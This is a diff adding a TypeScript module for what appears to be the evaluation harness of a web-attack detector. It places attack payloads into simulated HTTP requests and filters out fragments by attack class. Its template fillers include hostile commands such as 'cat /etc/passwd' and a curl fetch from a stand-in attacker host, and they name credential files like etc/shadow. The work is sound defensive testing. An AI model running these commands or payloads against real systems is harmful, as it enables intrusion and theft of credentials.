@@ -1,0 +1,308 @@
+/**
+ * The public evaluation's rules, pure and tested (test/insight/eval.test.ts): which part a payload
+ * belongs to (tuning or held out), which payloads are fragments that are no attack on their own, and
+ * where in a request a client puts a value. Decided on the payload alone: nothing here asks the
+ * detector.
+ */
+import type { AttackClass, BenignKind } from './sources.ts'
+
+export interface PlacedRequest {
+  /** where the value went, e.g. "query:q", "json", "header:user-agent", "path" */
+  where: string
+  path: string
+  query: string
+  headers: Record<string, string>
+  body: string | null
+}
+
+/**
+ * FNV-1a, 32 bits, then murmur3's finaliser: the split and every deterministic choice hang on it.
+ * Without the finaliser FNV-1a's low bits are a parity of the characters' low bits, and the split
+ * (bit 0) and the placement (the low bits) would be tied to each other.
+ */
+export function hash32(text: string): number {
+  let h = 0x811c9dc5
+  for (let i = 0; i < text.length; i++) {
+    h ^= text.charCodeAt(i)
+    h = Math.imul(h, 0x01000193)
+  }
+  h ^= h >>> 16
+  h = Math.imul(h, 0x85ebca6b)
+  h ^= h >>> 13
+  h = Math.imul(h, 0xc2b2ae35)
+  h ^= h >>> 16
+  return h >>> 0
+}
+
+export type Part = 'tune' | 'held-out'
+
+/**
+ * Half the payloads (and half the benign values) are for tuning, half are held out, by a hash of
+ * the class (or kind) and the value: the same on every run, blind to what the detector says.
+ */
+export function partOf(label: string, value: string): Part {
+  return hash32(`api-sessions/eval/v1\0${label}\0${value}`) % 2 === 0 ? 'tune' : 'held-out'
+}
+
+const PERCENT_ESCAPE = /%(?:[0-9a-f]{2}|u[0-9a-f]{4})/i
+/** Written already URL-encoded (`%2e%2e%2f`, `%0d%0a`): sent as written. */
+const preEncoded = (p: string) => PERCENT_ESCAPE.test(p)
+
+/**
+ * A value as it goes into a URL when it was written pre-encoded: only what a URL cannot carry is
+ * escaped (blanks, controls, quotes, angle brackets, `#`, non-ASCII), as a browser or curl does.
+ */
+export function asUrl(p: string): string {
+  let out = ''
+  for (const ch of p) {
+    const c = ch.codePointAt(0)!
+    if (c <= 0x20 || c >= 0x7f || ch === '"' || ch === '<' || ch === '>' || ch === '#' || ch === '`' || ch === '{' || ch === '}' || ch === '|' || ch === '\\' || ch === '^') out += encodeURIComponent(ch)
+    else out += ch
+  }
+  return out
+}
+
+/** A query or form value as a client library encodes it, or as written when pre-encoded. */
+export const queryValue = (p: string) => (preEncoded(p) ? asUrl(p).replace(/&/g, '%26') : encodeURIComponent(p))
+const formValue = (p: string) => queryValue(p).replace(/%20/g, '+')
+
+/** What a header can carry: Latin-1 without CR, LF or NUL (Node refuses the rest). */
+ 
+const headerSafe = (p: string) => !/[\r\n\0]|[^\x00-\xff]/.test(p)
+const cookieSafe = (p: string) => /^[\x21\x23-\x2b\x2d-\x3a\x3c-\x5b\x5d-\x7e]+$/.test(p)
+const xmlEscape = (p: string) => p.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;')
+
+const BASE_HEADERS = { host: 'shop.example.com', 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0', accept: '*/*' }
+
+function request(where: string, init: Partial<PlacedRequest> & { headers?: Record<string, string> }): PlacedRequest {
+  return { where, path: init.path ?? '/api/v1/items', query: init.query ?? '', headers: { ...BASE_HEADERS, ...init.headers }, body: init.body ?? null }
+}
+
+/** The placements a value can take, by name; each returns null where the value cannot go. */
+const PLACE: Record<string, (p: string, name: string) => PlacedRequest | null> = {
+  query: (p, name) => request(`query:${name}`, { query: `page=1&${name}=${queryValue(p)}` }),
+  'query-name': (p) => request('query-name', { query: `${queryValue(p).replace(/=/g, '%3D')}=1&page=2` }),
+  'query-raw': (p) => request('query-raw', { query: asUrl(p.startsWith('?') ? p.slice(1) : p) }),
+  path: (p) => request('path', { path: `/api/v1/items/${preEncoded(p) ? asUrl(p).replace(/\?/g, '%3F') : encodeURIComponent(p)}` }),
+  'path-raw': (p) => {
+    const raw = asUrl(p.startsWith('/') ? p : `/${p}`)
+    const q = raw.indexOf('?')
+    return request('path-raw', { path: q === -1 ? raw : raw.slice(0, q), query: q === -1 ? '' : raw.slice(q + 1) })
+  },
+  'path-file': (p) => !/^(?:\.|%2e|%252e|%c0%ae|0x2e)/i.test(p) ? null : request('path-file', { path: `/static/${asUrl(p.replace(/^[/\\]+/, ''))}`.replace(/\?/g, '%3F') }),
+  json: (p, name) => request(`json:${name}`, { headers: { 'content-type': 'application/json' }, body: JSON.stringify({ id: 7, [name]: p, tags: ['new'] }) }),
+  'json-raw': (p) => {
+    try {
+      JSON.parse(p)
+    } catch {
+      return null
+    }
+    return request('json-raw', { headers: { 'content-type': 'application/json' }, body: p })
+  },
+  form: (p, name) => request(`form:${name}`, { headers: { 'content-type': 'application/x-www-form-urlencoded' }, body: `id=7&${name}=${formValue(p)}&submit=Send` }),
+  multipart: (p, name) =>
+    request(`multipart:${name}`, {
+      headers: { 'content-type': 'multipart/form-data; boundary=----formdata7' },
+      body: `------formdata7\r\nContent-Disposition: form-data; name="id"\r\n\r\n7\r\n------formdata7\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${p}\r\n------formdata7--\r\n`,
+    }),
+  xml: (p, name) => request(`xml:${name}`, { headers: { 'content-type': 'application/xml' }, body: `<?xml version="1.0"?><order><id>7</id><${name}>${xmlEscape(p)}</${name}></order>` }),
+  'xml-raw': (p) => request('xml-raw', { headers: { 'content-type': 'application/xml' }, body: p }),
+  header: (p, name) => (headerSafe(p) ? request(`header:${name}`, { headers: { [name]: p } }) : null),
+  cookie: (p, name) => request(`cookie:${name}`, { headers: { cookie: `theme=dark; ${name}=${cookieSafe(p) ? p : encodeURIComponent(p)}; lang=en` } }),
+  'cookie-name': (p) => request('cookie-name', { headers: { cookie: `theme=dark; ${encodeURIComponent(p)}=1` } }),
+}
+
+type Slot = readonly [placement: string, name: string]
+
+/** Where a payload of each class goes: one slot per payload, chosen by its hash. */
+const GENERIC: readonly Slot[] = [
+  ['query', 'q'], ['query', 'id'], ['query', 'search'], ['json', 'comment'], ['json', 'name'], ['form', 'comment'], ['multipart', 'description'], ['xml', 'note'],
+  ['header', 'x-client-data'], ['header', 'referer'], ['header', 'user-agent'], ['cookie', 'prefs'], ['path', ''], ['query-name', ''], ['cookie-name', ''],
+]
+const SLOTS: Record<AttackClass, readonly Slot[]> = {
+  sqli: GENERIC,
+  xss: GENERIC,
+  rce: GENERIC,
+  ssti: GENERIC,
+  ssi: GENERIC,
+  ldapi: [['query', 'user'], ['query', 'filter'], ['json', 'username'], ['form', 'login'], ['cookie', 'user'], ['header', 'x-client-data']],
+  nosqli: [['query', 'user'], ['query', 'q'], ['json', 'username'], ['form', 'password'], ['cookie', 'user'], ['header', 'x-client-data']],
+  path_traversal: [['query', 'file'], ['query', 'page'], ['json', 'path'], ['form', 'template'], ['cookie', 'lang'], ['path-file', ''], ['header', 'x-client-data']],
+  ssrf: [['query', 'url'], ['query', 'image_url'], ['query', 'callback'], ['json', 'webhook_url'], ['json', 'source'], ['form', 'feed'], ['xml', 'url']],
+  open_redirect: [['query', 'next'], ['query', 'redirect'], ['query', 'return_to'], ['query', 'url'], ['form', 'continue'], ['json', 'redirect_uri']],
+  crlf: [['query', 'lang'], ['query', 'next'], ['query', 'q'], ['form', 'page']],
+  jndi: [['header', 'user-agent'], ['header', 'x-api-version'], ['header', 'referer'], ['header', 'x-client-data'], ['cookie', 'session'], ['query', 'q'], ['json', 'username'], ['form', 'login']],
+  xxe: [['xml-raw', '']],
+  scanner: [['path-raw', '']],
+}
+
+const QUERY_STRING = /^\??[\w.[\]$-]{1,40}=[^\s&]*(?:&[\w.[\]$-]{1,40}=[^\s&]*)*$/
+
+/** The request that carries an attack payload of a class, as a client or an attacker's tool sends it. */
+export function placeAttack(cls: AttackClass, p: string): PlacedRequest {
+  const h = hash32(`${cls}\0${p}`)
+  // shapes that say where they go: a whole query string, a JSON document, a path, an operator suffix
+  if (cls === 'nosqli' || cls === 'open_redirect' || cls === 'ssrf') {
+    if (p.startsWith('[')) return PLACE['query-raw']!(`user${p}${p.includes('=') ? '' : '=1'}`, '')!
+    if (QUERY_STRING.test(p)) return PLACE['query-raw']!(p, '')!
+    if (p.startsWith('{')) {
+      const placed = PLACE['json-raw']!(p, '')
+      if (placed !== null) return placed
+    }
+  }
+  if ((cls === 'open_redirect' || cls === 'crlf') && p.startsWith('/') && (h & 1) === 0) return PLACE['path-raw']!(p, '')!
+  if ((cls === 'open_redirect' || cls === 'crlf') && (/^\/?\?/.test(p) || /^\/[^?]*\?[\w.-]+=/.test(p))) return PLACE['path-raw']!(p, '')!
+  const slots = SLOTS[cls]
+  for (let i = 0; i < slots.length; i++) {
+    const [placement, name] = slots[(h + i) % slots.length]!
+    const placed = PLACE[placement]!(p, name)
+    if (placed !== null) return placed
+  }
+  return PLACE.query!(p, 'q')!
+}
+
+const BENIGN_SLOTS: Record<Exclude<BenignKind, 'api_traffic'>, readonly Slot[]> = {
+  prose: [['query', 'q'], ['json', 'comment'], ['form', 'message'], ['multipart', 'description'], ['xml', 'note'], ['header', 'x-client-data'], ['cookie', 'last_search']],
+  names: [['query', 'name'], ['json', 'name'], ['form', 'name'], ['path', ''], ['cookie', 'user'], ['header', 'x-client-data'], ['xml', 'name']],
+  addresses: [['query', 'address'], ['json', 'address'], ['form', 'street'], ['xml', 'address'], ['multipart', 'address']],
+  urls: [['query', 'url'], ['query', 'redirect_uri'], ['query', 'next'], ['json', 'website'], ['json', 'callback_url'], ['form', 'url'], ['header', 'referer'], ['xml', 'link']],
+  emails: [['query', 'email'], ['json', 'email'], ['form', 'email'], ['path', ''], ['cookie', 'login'], ['header', 'x-client-data']],
+  code: [['json', 'snippet'], ['form', 'snippet'], ['multipart', 'file'], ['query', 'q'], ['xml', 'code']],
+  markdown: [['json', 'body'], ['form', 'body'], ['multipart', 'readme'], ['json', 'description']],
+  json: [['json-raw', ''], ['json-raw', ''], ['json', 'document'], ['form', 'payload']],
+  base64: [['query', 'data'], ['json', 'data'], ['cookie', 'state'], ['header', 'x-client-data'], ['form', 'blob']],
+  jwt: [['cookie', 'session'], ['query', 'token'], ['json', 'token'], ['header', 'x-client-data'], ['form', 'id_token']],
+}
+
+/** The request that carries a benign value of a kind. */
+export function placeBenign(kind: Exclude<BenignKind, 'api_traffic'>, v: string): PlacedRequest {
+  const slots = BENIGN_SLOTS[kind]
+  const h = hash32(`${kind}\0${v}`)
+  for (let i = 0; i < slots.length; i++) {
+    const [placement, name] = slots[(h + i) % slots.length]!
+    const placed = PLACE[placement]!(v, name)
+    if (placed !== null) return placed
+  }
+  return PLACE.json!(v, 'value')!
+}
+
+// ---- fragments ---------------------------------------------------------------------------------
+
+const LETTERS = /[a-z]{2}/i
+const SQL_WORD = /\b(?:or|and|xor|not|union|select|insert|update|delete|drop|exec|execute|declare|waitfor|sleep|benchmark|having|order|group|like|rlike|regexp|where|from|into|cast|convert|char|concat|substring|ascii|if|case|when|pg_sleep|dbms_\w+|utl_\w+|load_file|outfile|information_schema|sysobjects|version|user|database|shutdown|truncate|create|alter|grant|limit|offset|procedure|analyse)\b|@@|[=<>]|--|#|\/\*/i
+const SHELL_WORD = /[a-z]{2}/i
+const ANY_URL_OR_HOST = /[a-z][a-z0-9+.-]{1,15}:|^[\w.:[\]-]+$/i
+
+function decodeOnce(p: string): string {
+  try {
+    return decodeURIComponent(p)
+  } catch {
+    return p
+  }
+}
+
+/**
+ * Whether a payload is a fragment, no attack on its own: a lone character or escape, a separator,
+ * a list's placeholder, a tag or attribute name, or a line of the class's list that carries none
+ * of the class's substance (a SQL list's lone quote, an LDAP list's lone "*", a template list's
+ * prose). The rules look at the payload's text only.
+ */
+export function fragmentReason(cls: AttackClass, p: string): string | null {
+  const d = decodeOnce(p).trim()
+  if (d.length < 3) return 'shorter than 3 characters'
+   
+  if (cls !== 'ldapi' && !/[a-z0-9]/i.test(d.replace(/[\x00-\x1f]/g, ''))) return 'no letter or digit'
+  if (/^#+\s+[a-z][a-z'-]*\s+[a-z]/i.test(d)) return "a list's comment line"
+  if (/^\S{1,40}@\S{1,40}:\S{0,40}[$#]\s/.test(d)) return 'a shell transcript line (a prompt)'
+  if (/\{(?:payload|cmd|target|file|url|host|domain)\}|§|FUZZ\b|\[(?:ROLE NAME|ID|ATTACKER[^\]]*)\]|<(?:user|auth|host|port|word|database|n|text|IP|attacker[^>]*)>/i.test(d)) return 'an unfilled placeholder'
+  switch (cls) {
+    case 'sqli':
+      if (!LETTERS.test(d) && !/\d\s*[=<>]/.test(d)) return 'no SQL'
+      if (!SQL_WORD.test(d)) return 'no SQL keyword, operator or comment'
+      if (/^[\w\s]+$/.test(d) && !/\b(?:or|and)\s+\d|\bunion\b|\bselect\b|\bsleep\b|\bwaitfor\b/i.test(d)) return 'words only'
+      return null
+    case 'xss': {
+      if (!/[<>"'`(=:]/.test(d)) return 'no markup, quote, call or scheme'
+      if (/^[a-z-]+$/i.test(d) || /^on[a-z]+$/i.test(d)) return 'a tag or attribute name'
+      // markup or text with nothing in it that runs: no script, handler, script URL, style
+      // expression or binding, no loaded source, no call (a list's HTML fragment or comment line)
+      const t = d.replace(/&#x?0*([0-9a-f]{1,6});?/gi, (m, n: string) => (m.toLowerCase().startsWith('&#x') ? String.fromCharCode(parseInt(n, 16)) : String.fromCharCode(Number(n)))).toLowerCase()
+      if (!/script|\bon[a-z]{3,}|javas|vbs|livescript|data:|expression|express|binding|behavior|import|\bsrc|href|action|srcdoc|datasrc|\(|`|constructor|eval|alert|prompt|confirm|&\{|\+adw-|xmlns|<\?xml|<!|http-equiv|<meta|<link|<iframe|<embed|<object|<svg|<math|<base|<xss|<layer|<style/.test(t)) return 'markup with nothing that runs'
+      return null
+    }
+    case 'path_traversal':
+      if (!/\.\.|[/\\]/.test(d) && !/^[a-z]:/i.test(d)) return 'no path'
+      if (/^[/\\]*$/.test(d.replace(/\./g, ''))) return 'dots and slashes only'
+      return null
+    case 'rce':
+      if (!SHELL_WORD.test(d)) return 'no command'
+      return null
+    case 'ssrf':
+      if (!ANY_URL_OR_HOST.test(d)) return 'neither a URL nor a host'
+      // a web URL to a public name, with no address, internal name or testing service in its host and
+      // no address or URL in the rest: a reference link or a redirector's page, not a forged request
+      {
+        const url = /^https?:\/\/([^/?#\s]+)(.*)$/i.exec(d)
+        if (url !== null && /^[a-z][\w-]*(?:\.[\w-]+)*\.[a-z]{2,12}(?::\d+)?$/i.test(url[1]!) && !/(?:^|\.)(?:localhost|local|internal|intranet|corp|lan|metadata|instance-data|localtest|lvh|vcap|localh|nip|sslip|xip|oast\w*|burpcollaborator|interact|requestbin|dnslog|ceye|r3dir|rbndr|1u)\./i.test(`${url[1]}.`) && !/\d{1,3}[.-]\d{1,3}[.-]\d{1,3}[.-]\d{1,3}|localhost|:\/\/|%3a%2f%2f/i.test(url[2]!)) return 'a public web URL with no internal target'
+      }
+      return null
+    case 'nosqli':
+      if (/^\$\w+$/.test(d)) return 'an operator name alone'
+      if (!/[$]|this\.|return|sleep|==|\|\||&&|db\./i.test(d)) return 'no operator or JavaScript'
+      return null
+    case 'ldapi':
+      // a filter broken out of: ")(" "(|" "(&" "(!" "*)"; not a quoted XPath or SQL condition
+      if (!/\)\s*\(|\(\s*[|&!]|\*\s*\)/.test(d)) return 'no filter syntax'
+      if (/'\s*or\b|\bor\s*'/i.test(d)) return 'not LDAP (a quoted XPath or SQL condition)'
+      return null
+    case 'xxe':
+      if (!/<!(?:doctype|entity)|xi:include|xmlns:xi/i.test(d)) return 'no DTD, entity or XInclude'
+      if (/^<!doctype\s+[\w:-]+\s*\[?$/i.test(d)) return "a DTD's opening line alone"
+      if (!/system|public|%|&|xi:include|xinclude|<!element|<!attlist/i.test(d)) return 'an internal entity with a plain value'
+      return null
+    case 'jndi':
+      if (!/\$\{/.test(d)) return 'no lookup'
+      if (!/ldap|rmi|dns|iiop|corba|nds|nis|http|\/\//i.test(d)) return 'a lookup with no protocol (no JNDI)'
+      return null
+    case 'ssti':
+      if (!/\{\{|\$\{|<%|#\{|\{%|\*\{|\[#|@\(|\{\$|@\{|\{#/.test(d)) return 'no template syntax'
+      return null
+    case 'ssi':
+      if (!/<!--#|<esi:/i.test(d)) return 'no directive'
+      return null
+    case 'crlf':
+      if (!/%0[ad]|%e5%98%8[ad]|\\r|\\n|%5cr|%5cn|%u000[ad]|\r|\n/i.test(p)) return 'no line break'
+      if (!/[a-z]{3}/i.test(d.replace(/%[0-9a-f]{2}|\\[rn]/gi, ''))) return 'a line break alone'
+      return null
+    case 'open_redirect':
+      if (!/[a-z]{2}.*\.[a-z]|\d+\.\d+/i.test(d)) return 'no host'
+      return null
+    case 'scanner':
+      return null
+  }
+}
+
+// ---- templates -----------------------------------------------------------------------------------
+
+/** What a list's `{cmd}`, `{target}` and `{FILE}` stand for, in turn (by the line's hash). */
+const COMMANDS = ['id', 'whoami', 'uname -a', 'cat /etc/passwd', 'ls -la', 'sleep 5', 'ping -c 3 attacker.example.net', 'dir', 'type C:\\Windows\\win.ini', 'curl http://attacker.example.net/x']
+const TARGETS = ['attacker.example.net', 'evil.example.org', 'www.evil-site.example']
+const FILES = ['etc/passwd', 'etc/shadow', 'windows/win.ini', 'boot.ini', 'etc/hosts']
+const BACKUP_SUFFIXES = ['.bak', '~', '.old', '.orig', '.save', '.swp', '.copy', '.tmp', '.backup', '.bck', '.sav', '.1']
+
+export function fillTemplate(line: string): string[] {
+  const h = hash32(line)
+  if (line.includes('{cmd}')) return [line.replaceAll('{cmd}', COMMANDS[h % COMMANDS.length]!)]
+  if (line.includes('{target}')) return [line.replaceAll('{target}', TARGETS[h % TARGETS.length]!)]
+  if (line.includes('{FILE}')) return [line.replaceAll('{FILE}', FILES[h % FILES.length]!)]
+  return [line]
+}
+
+/** Backup-file probes: a page with each backup suffix, and as a "Copy of". */
+export function backupProbes(page: string): string[] {
+  const q = page.indexOf('?')
+  const p = (q === -1 ? page : page.slice(0, q)).replace(/^(?!\/)/, '/')
+  if (p.endsWith('/')) return []
+  const slash = p.lastIndexOf('/')
+  return [...BACKUP_SUFFIXES.map((s) => `${p}${s}`), `${p.slice(0, slash + 1)}Copy%20of%20${p.slice(slash + 1)}`, `${p.slice(0, slash + 1)}.${p.slice(slash + 1)}.swp`]
+}
